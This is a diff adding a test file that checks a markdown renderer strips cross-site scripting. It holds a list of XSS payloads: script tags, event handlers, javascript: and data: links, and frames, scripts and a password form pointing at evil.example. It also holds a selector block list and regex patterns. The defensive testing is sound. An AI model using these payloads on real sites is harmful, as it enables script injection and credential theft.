@@ -1,0 +1,89 @@
+import { htmlOf, renderMarkdown } from '../../test/markdown';
+
+const ATTACKS = {
+  'a script': '<script>alert(1)</script>',
+  'a script in a paragraph': 'Soup <script>alert(1)</script> and bread',
+  'a script from elsewhere': '<script src="https://evil.example/x.js"></script>',
+  'a handler of a picture': '<img src="x.jpg" onerror="alert(1)">',
+  'a handler of a paragraph': '<p onclick="alert(1)">Soup</p>',
+  'a handler in upper case': '<p ONCLICK="alert(1)">Soup</p>',
+  'a handler of an animation': '<details open ontoggle="alert(1)">Soup</details>',
+  'a link to a script': '[Soup](javascript:alert(1))',
+  'a link to a script as HTML': '<a href="javascript:alert(1)">Soup</a>',
+  'a link to a script with spaces': '<a href=" java\tscript:alert(1)">Soup</a>',
+  'a link to a script in upper case': '<a href="JaVaScRiPt:alert(1)">Soup</a>',
+  'a link to a script with an entity': '<a href="javascript&colon;alert(1)">Soup</a>',
+  'a link to a document as data': '<a href="data:text/html,<script>alert(1)</script>">Soup</a>',
+  'a link to a vbscript': '[Soup](vbscript:alert(1))',
+  'a picture that is a script': '![Soup](javascript:alert(1))',
+  'a picture as data': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  'a frame': '<iframe src="https://evil.example"></iframe>',
+  'a frame with a document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  'an object': '<object data="https://evil.example/x.swf"></object>',
+  'an embed': '<embed src="https://evil.example/x.swf">',
+  'a style': '<p style="position:fixed;inset:0">Soup</p>',
+  'a style sheet': '<style>body { display: none }</style>',
+  'a style sheet from elsewhere': '<link rel="stylesheet" href="https://evil.example/x.css">',
+  'a form':
+    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
+  'a field outside of a form': '<input autofocus onfocus="alert(1)">',
+  'a choice': '<select><option>Soup</option></select><textarea>Soup</textarea>',
+  'a drawing with a script': '<svg><script>alert(1)</script></svg>',
+  'a drawing with a handler': '<svg onload="alert(1)"><circle r="1" /></svg>',
+  'a formula': '<math><mi xlink:href="javascript:alert(1)">Soup</mi></math>',
+  'a base for all addresses': '<base href="https://evil.example">',
+  'a redirect': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  'a template': '<template><script>alert(1)</script></template>',
+  'a link without script': '<noscript><img src=x onerror=alert(1)></noscript>',
+  'an id of the page': '<p id="content">Soup</p><a name="themeEngine">Soup</a>',
+  'a class of the page': '<p class="fixed inset-0">Soup</p>',
+  'a comment with a script': '<!--><script>alert(1)</script>-->',
+  'a tag that is torn': '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  'a target of its own': '<a href="/pricing" target="_blank">Soup</a>',
+};
+
+const FORBIDDEN =
+  'script, style, iframe, object, embed, link, meta, base, form, button, select, textarea, svg, math, template, noscript, input, [style], [srcdoc], [name], [target], [id], [class]';
+
+test.each(Object.entries(ATTACKS))('%s never reaches the page', async (_name, markdown) => {
+  const article = await renderMarkdown(markdown);
+  expect(article.querySelectorAll(FORBIDDEN)).toHaveLength(0);
+  for (const { name, value } of [...article.querySelectorAll('*')].flatMap((each) => [
+    ...each.attributes,
+  ])) {
+    expect(name).not.toMatch(/^on/i);
+    expect(value).not.toMatch(/(?:java|vb)\s*script|^\s*data:/i);
+  }
+});
+
+test('the guard against attacks sees them where nothing stops them', () => {
+  document.body.innerHTML = ATTACKS['a style'];
+  expect(document.body.querySelectorAll(FORBIDDEN)).toHaveLength(1);
+});
+
+test('what is left of an attack is the author’s text', async () => {
+  expect(await htmlOf(ATTACKS['a handler of a paragraph'])).toBe('<p>Soup</p>');
+  expect(await htmlOf(ATTACKS['a script in a paragraph'])).toBe('<p>Soup  and bread</p>');
+});
+
+test('harmless HTML stays', async () => {
+  const html = '<p>Press <kbd>Esc</kbd>, H<sub>2</sub>O<br>and <mark>soup</mark>.</p>';
+  expect(await htmlOf(html)).toBe(html);
+});
+
+test.each([
+  'https://example.org/',
+  'http://example.org/',
+  'mailto:a@example.org',
+  '/pricing',
+  '#soup',
+])('a link to %s stays', async (address) => {
+  const article = await renderMarkdown(`[Soup](${address})`);
+  expect(article.querySelector('a')).toHaveAttribute('href', address);
+});
+
+test('only pages of other sites are kept from the window', async () => {
+  const article = await renderMarkdown('[Here](/pricing), [there](https://example.org).');
+  const rels = [...article.querySelectorAll('a')].map((link) => link.getAttribute('rel'));
+  expect(rels).toEqual([null, 'noopener']);
+});
